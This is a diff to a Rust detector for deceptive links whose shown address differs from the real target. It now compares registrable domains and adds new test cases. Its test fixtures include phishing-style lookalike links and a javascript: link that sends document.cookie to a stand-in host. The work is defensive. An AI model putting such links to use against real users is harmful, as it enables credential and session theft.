@@ -2,7 +2,8 @@
 //! `[https://accounts.google.com](https://accounts-google.signin.example/)` or the HTML
 //! `<a href="...">` a model renders for the user, who sees the familiar address and follows
 //! the other. A link whose text is not an address ("[the docs](...)") says nothing about its
-//! target and is left alone; one whose target is the shown host or a subdomain of it agrees.
+//! target and is left alone; one whose target is on the shown site (the same registrable
+//! domain) agrees.
 
 use super::evidence::show_invisible;
 use super::{Finding, Severity};
@@ -104,11 +105,55 @@ fn host_of_target(target: &str) -> Option<String> {
     Some(host.strip_prefix("www.").unwrap_or(host).to_owned())
 }
 
-/// Whether the target host is the shown one (the empty host of a relative target included),
-/// a subdomain of it, or the site the shown subdomain belongs to.
+/// Whether the target belongs to the site the text shows: the same registrable domain (a
+/// relative target, whose host is empty, stays on the page's own site). `api.openai.com` shown
+/// for `platform.openai.com` agrees; `accounts.google.com` shown for
+/// `accounts-google.com.signin.example` does not.
 fn same_site(shown: &str, target: &str) -> bool {
-    let under = |a: &str, b: &str| a.len() > b.len() && a.ends_with(b) && a.as_bytes()[a.len() - b.len() - 1] == b'.';
-    target.is_empty() || shown == target || under(target, shown) || under(shown, target)
+    target.is_empty() || registrable(shown) == registrable(target)
+}
+
+/// Second-level labels under which names are registered in many country domains (`co.uk`,
+/// `com.au`), and hosting domains whose subdomains belong to different people.
+const SHARED_SUFFIXES: &[&str] = &[
+    "appspot.com",
+    "azurewebsites.net",
+    "blogspot.com",
+    "cloudfront.net",
+    "firebaseapp.com",
+    "fly.dev",
+    "github.io",
+    "gitlab.io",
+    "herokuapp.com",
+    "netlify.app",
+    "ngrok-free.app",
+    "ngrok.io",
+    "onrender.com",
+    "pages.dev",
+    "s3.amazonaws.com",
+    "vercel.app",
+    "web.app",
+    "workers.dev",
+];
+const SECOND_LEVELS: &[&str] = &["ac", "co", "com", "edu", "gov", "net", "ne", "or", "org"];
+
+/// The part of `host` a name is registered as, approximately: its last two labels, or three
+/// under a second-level label of a country domain (`example.co.uk`) or a shared hosting
+/// domain (`alice.github.io`).
+fn registrable(host: &str) -> &str {
+    let labels: Vec<&str> = host.rsplit('.').collect();
+    let keep = if SHARED_SUFFIXES.iter().any(|s| host == *s || host.ends_with(&format!(".{s}"))) {
+        SHARED_SUFFIXES.iter().filter(|s| host.ends_with(*s)).map(|s| s.split('.').count()).max().unwrap_or(2) + 1
+    } else if labels.len() >= 3 && labels[0].len() == 2 && SECOND_LEVELS.contains(&labels[1]) {
+        3
+    } else {
+        2
+    };
+    if labels.len() <= keep {
+        return host;
+    }
+    let cut: usize = labels[..keep].iter().map(|l| l.len() + 1).sum();
+    &host[host.len() + 1 - cut..]
 }
 
 #[cfg(test)]
@@ -130,6 +175,9 @@ mod tests {
             "[https://bank.example/login](javascript:fetch('https://x.example/'+document.cookie))",
             r#"Visit <a href="https://login.micros0ft.example/auth">https://login.microsoftonline.com</a> to re-authenticate."#,
             "See [docs.python.org](<https://docs.python.org.evil.example/3/>)",
+            "[alice.github.io/docs](https://mallory.github.io/docs)",
+            "[www.bbc.co.uk](https://bbc.co.uk.news-verify.example/)",
+            "[shop.example.co.uk](https://other.co.uk/pay)",
         ] {
             assert!(found(text), "{text}");
         }
@@ -143,6 +191,8 @@ mod tests {
             "[example.com](https://www.example.com/path?q=1)",
             "[python.org](https://docs.python.org/3/library/json.html)",
             "[docs.rust-lang.org](https://rust-lang.org/learn)",
+            "[api.openai.com](https://platform.openai.com/docs/api-reference)",
+            "[bbc.co.uk/news](https://www.bbc.co.uk/news/technology)",
             "Relative: [api.example.com/v1](/v1/reference)",
             r#"<a href="https://en.wikipedia.org/wiki/JSON">en.wikipedia.org/wiki/JSON</a>"#,
             r#"<a href='https://example.org'>Example</a>"#,
